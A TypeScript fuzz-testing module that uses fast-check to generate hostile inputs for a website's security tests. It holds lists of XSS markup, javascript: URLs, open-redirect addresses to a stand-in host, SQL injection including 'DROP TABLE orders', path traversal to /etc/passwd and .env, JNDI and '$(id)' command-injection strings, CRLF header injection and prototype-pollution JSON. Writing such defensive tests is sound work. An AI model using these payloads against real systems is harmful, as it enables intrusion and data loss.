import fc from "fast-check";
import { repeated, untrustedUnits } from "../support/untrusted-texts.ts";

/**
 * The name of everything that hostile values try to create: an element, an attribute, a header, a property, a host. No
 * text of the site contains it, so wherever it is more than text, an injection succeeded.
 */
export const mark = "x-fuzz";
/** A host that no answer may lead to. */
export const foreignHost = `${mark}.example`;

const call = `globalThis['${mark}']=1`;

/** Ends of the contexts that a text may stand in. */
const breakouts = [
  "", '"', "'", "`", ">", '">', "'>", '"/>', "-->", "--!>", "]]>", "</title>", "</script>", "</textarea>", "</style>", "</noscript>",
  "</select>", "</svg>", "</template>", "*/", "\\\";", "<!--", "<![CDATA[", "&quot;>", "&#34;&#62;", "%22%3E",
]; // oxfmt-ignore

const elements = [
  `<${mark}>`,
  `<${mark} ${mark}=1 onclick="${call}">a</${mark}>`,
  `<img src=x onerror="${call}">`,
  `<img src=x onerror=alert\`${mark}\`//`,
  `<svg onload="${call}">`,
  `<svg><script>${call}</script></svg>`,
  `<svg><a xlink:href="javascript:${call}"><text>a</text></a></svg>`,
  `<svg><animate attributeName=href values="javascript:${call}"></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=a onload=${call}>#a"></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${call}>">`,
  `<math href="javascript:${call}">a</math>`,
  `<script>${call}</script>`,
  `<script src=//${foreignHost}></script>`,
  `<script type=module>import "//${foreignHost}"</script>`,
  `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  `<iframe src="javascript:${call}">`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="//${foreignHost}">`,
  `<base href="//${foreignHost}/">`,
  `<meta http-equiv=refresh content="0;url=//${foreignHost}">`,
  `<meta http-equiv=Content-Security-Policy content="">`,
  `<link rel=stylesheet href="//${foreignHost}">`,
  `<style>@import "//${foreignHost}";</style>`,
  `<p style="background:url(//${foreignHost})">`,
  `<form action="//${foreignHost}"><input name=password><button>a</button></form>`,
  `<button formaction="javascript:${call}">a</button>`,
  `<input autofocus onfocus="${call}">`,
  `<details open ontoggle="${call}">`,
  `<video><source onerror="${call}"></video>`,
  `<a href="javascript:${call}">a</a>`,
  `<a href="//${foreignHost}" target=_blank ping="//${foreignHost}">a</a>`,
  `<template shadowrootmode=open><${mark}></${mark}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<select><template><style></select><${mark}>`,
  `<table><td><${mark}><tr><form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><${mark} onload=1>">`,
  `<p id=${mark} is=${mark} contenteditable autofocus onfocus="${call}">`,
  `<a\u000conclick="${call}"\u000chref=x>`,
  `<a/onclick="${call}"/href=x>`,
]; // oxfmt-ignore

const schemes = ["javascript:", "vbscript:", "data:text/html,", "data:image/svg+xml,", "blob:", "file:///etc/", "livescript:", "view-source:"]; // oxfmt-ignore

/** Changes the spelling of a text, but not its meaning to a careless reader. */
const respelled = (text: string): fc.Arbitrary<string> =>
  fc
    .tuple(
      fc.constantFrom("as-is", "upper", "mixed", "tabbed", "entities", "percent", "twice", "padded"),
      fc.nat(40),
    )
    .map(([how, at]) => {
      if (how === "upper") return text.toUpperCase();
      if (how === "mixed")
        return [...text].map((sign, index) => (index % 2 ? sign.toUpperCase() : sign)).join("");
      if (how === "tabbed") return `${text.slice(0, at % text.length)}\t${text.slice(at % text.length)}`;
      if (how === "entities")
        return text.replace(/[<>:"'a]/gu, (sign) => `&#x${sign.charCodeAt(0).toString(16)};`);
      if (how === "percent")
        return text.replace(/[<>:"'/]/gu, (sign) => `%${sign.charCodeAt(0).toString(16)}`);
      if (how === "twice")
        return text.replace(/[<>:"'/]/gu, (sign) => `%25${sign.charCodeAt(0).toString(16)}`);
      return how === "padded" ? `\u0001 \u00a0${text}` : text;
    });
const spelled = (texts: readonly string[]) => fc.constantFrom(...texts).chain(respelled);

/** Hostile texts by their target; all written for this site. */
export const hostileTexts = {
  markup: fc
    .tuple(fc.constantFrom(...breakouts), spelled(elements), fc.constantFrom(...breakouts))
    .map((parts) => parts.join("")),
  addresses: fc.oneof(
    fc.tuple(spelled(schemes), fc.constantFrom(call, `${mark}`, `<${mark}>`)).map((parts) => parts.join("")),
    spelled([
      `//${foreignHost}`,
      `///${foreignHost}`,
      `/\\${foreignHost}`,
      `\\\\${foreignHost}`,
      `/\t/${foreignHost}`,
      `/.//${foreignHost}`,
      `/..//${foreignHost}`,
      `/%2f${foreignHost}`,
      `/%5c${foreignHost}`,
      `https:${foreignHost}`,
      `https:/${foreignHost}`,
      `https://${foreignHost}`,
      `https://divadlo.example@${foreignHost}`,
      `https://divadlo.example.${foreignHost}`,
      `http:\\${foreignHost}`,
      `//${foreignHost}%00.divadlo.example`,
      `//${foreignHost}#@divadlo.example`,
      `/login?redirect=//${foreignHost}`,
      "//[::1]",
      "http://0x7f.1/",
      `/kosik?x=1\r\nLocation: //${foreignHost}`,
      "?",
      "#",
      "/?#",
      ".",
      "//",
    ]),
  ),
  templates: spelled([
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% if 1 %}", "{{constructor.constructor('return 1')()}}", "__proto__", "__proto__[x-fuzz]",
    "constructor.prototype.x-fuzz", "toString", "hasOwnProperty", "%s%n%x", "{0}", "${jndi:ldap://x-fuzz.example/a}", "$(id)", "`id`", "; id",
    "| id", "!!js/function", "*)(uid=*", "=1+1", "@SUM(1)", "$&$1$'", "\\1\\0", "%{(#a)}",
  ]), // oxfmt-ignore
  sql: spelled([
    "' OR '1'='1", "'; DROP TABLE orders; --", "1 UNION SELECT null--", "') OR 1=1--", "%' OR '%'='", "_%_%", "\\' OR 1=1--", "$1", "$$x$$",
    "E'\\x27'", "1;SELECT pg_sleep(9)", "' || (SELECT version()) || '", "?::int", "\u02bc OR 1=1", "NULL", "%%%%", "100% \\", "a:*&!b", "<-> |",
  ]), // oxfmt-ignore
  paths: spelled([
    "../../etc/passwd", "..", ".", "....//", "..;/", "..\\..\\", "%2e%2e%2f", "%252e%252e/", "C:\\boot.ini", "/etc/passwd", "x.pdf%00.png", "CON",
    ".git/config", ".env", "~root", "a/../../b", "./././", "\\\\host\\share", "file:///etc/passwd", ".htaccess", "node_modules", "%c0%ae%c0%ae/",
  ]), // oxfmt-ignore
  lines: spelled([
    `\r\nX-Fuzz: 1`, `\r\n\r\n<${mark}>`, `%0d%0aX-Fuzz: 1`, `\nBcc: a@${foreignHost}`, "\r\n.\r\nMAIL FROM:<a@b>", "\u2028X-Fuzz: 1", "\u0085a",
    "\r\nEND:VEVENT\r\nX-FUZZ:1", "\r", "\n", "a\rb", "\v\f", "=?utf-8?B?DQpYLUZ1eno6IDE=?=", "\\nX-FUZZ:1", "\r\n--boundary", "a\r\n b",
    `a@b.cz\r\nX-Fuzz: 1`, `a@b.cz,c@${foreignHost}`, `"a\r\nX-Fuzz: 1"@b.cz`, `<a@b.cz> <c@${foreignHost}>`,
  ]), // oxfmt-ignore
  controls: fc
    .tuple(
      fc.constantFrom("", "Jana", "1"),
      fc.constantFrom("\0", "\u0001", "\u0008", "\u001b[31m", "\u007f", "\u0080", "\u009f", "\u0000\u0000"),
    )
    .map(([before, sign]) => `${before}${sign}Nová`),
  unicode: spelled([
    "\ud800", "a\udfffb", "\u202eabc\u202c", "\u2066\u2067\u2069", "\u200b\u200d\ufeff", "Z\u0301\u0316\u0337".padEnd(300, "\u0301"), "ﬁﬃ", "ſs", "K",
    "ŉǰΐ", "İi\u0307", "ß", "＜script＞", "ʼ＇", "\ufffe\uffff\ufffd", "\u{10ffff}", "\u{e0001}\u{e0041}", "👩‍👩‍👧‍👦".repeat(9), "🇨🇿", "漢字",
    "السلام عليكم", "ꙮ𒐫﷽", "\u00ad", "\u3000", "\u180e", "ͤ".repeat(99), "e\u0301 é", "\u2044\u2215", "аdmin", "①²½", "\u{1d7d8}",
  ]), // oxfmt-ignore
  numbers: fc.constantFrom(
    "0", "-0", "-1", "00", "01", "+1", " 1", "1 ", "1.0", "1.5", "1,5", "1e0", "1e3", "1e308", "1e309", "-1e308", "5e-324", "NaN", "Infinity",
    "0x10", "0b1", "1_000", "1 000", "١", "１", "Ⅷ", "2147483647", "2147483648", "-2147483649", "4294967296", "9007199254740993",
    "9223372036854775808", "9".repeat(30), "9".repeat(400), "1".padEnd(60, "0"), "0".padEnd(60, "0") + "1", "--1", "1--", "true", "null", "[]",
  ), // oxfmt-ignore
  dates: fc.constantFrom(
    "2026-02-30", "0000-00-00", "2026-13-01", "9999-12-31", "10000-01-01", "+275760-09-13T00:00:00Z", "-271821-04-20T00:00:00Z", "-000001-01-01",
    "2026-11-21T25:61:61Z", "2026-11-21T00:00:00+99:99", "2026-W47-6", "1e9", "T", "2026-11", "2026-11-21 19:00", "21. 11. 2026", "now", "Z",
    "2026-03-29T02:30:00+01:00", "1969-12-31T23:59:59Z", "0001-01-01T00:00:00Z", "2026-11-21T19:00:00.123456789Z", "tomorrow",
  ), // oxfmt-ignore
  lengths: fc
    .tuple(
      fc.constantFrom(...untrustedUnits, "a", "1", "%", "-"),
      fc.constantFrom(0, 1, 121, 256, 1_001, 4_096, 10_240),
    )
    .map(([unit, length]) => repeated(unit, length)),
  anything: fc.oneof(
    fc.string({ unit: "binary", maxLength: 40 }),
    fc.string({ unit: "grapheme", maxLength: 40 }),
  ),
} as const satisfies Readonly<Record<string, fc.Arbitrary<string>>>;

const one = fc.oneof(...Object.values(hostileTexts));

/** Any hostile text, by itself, after a harmless one or two together. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: one },
  { weight: 2, arbitrary: one.map((text) => `Jana ${text}`) },
  { weight: 1, arbitrary: fc.tuple(one, one).map((texts) => texts.join("")) },
);

/** JSON values of any type: also numbers that JSON writes in one way only, lists, depths, keys of prototypes. */
export const hostileJson: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 8, arbitrary: hostileText },
  {
    weight: 5,
    arbitrary: fc.constantFrom<unknown>(
      null, true, false, 0, -0, -1, 1.5, 1e308, -1e308, 5e-324, 2 ** 31, 2 ** 53, -(2 ** 53), 1e21, "", [], {}, [[]], [null], [{}], {length: 1e9},
    ),
  }, // oxfmt-ignore
  { weight: 1, arbitrary: fc.constantFrom(1, 30, 60, 100, 800).map(nested) },
  {
    weight: 1,
    arbitrary: hostileText.map(
      (text) =>
        JSON.parse(
          `{"__proto__":{"isAdmin":true},"constructor":{"prototype":{}},"toString":${JSON.stringify(text)},"then":1}`,
        ) as unknown,
    ),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(hostileText, fc.constantFrom(2, 600, 2_500))
      .map(([text, times]) => Array.from({ length: times }, () => text.slice(0, 300))),
  },
);

function nested(levels: number): unknown {
  let value: unknown = mark;
  for (let level = 0; level < levels; level += 1) value = level % 2 ? [value] : { a: value };
  return value;
}
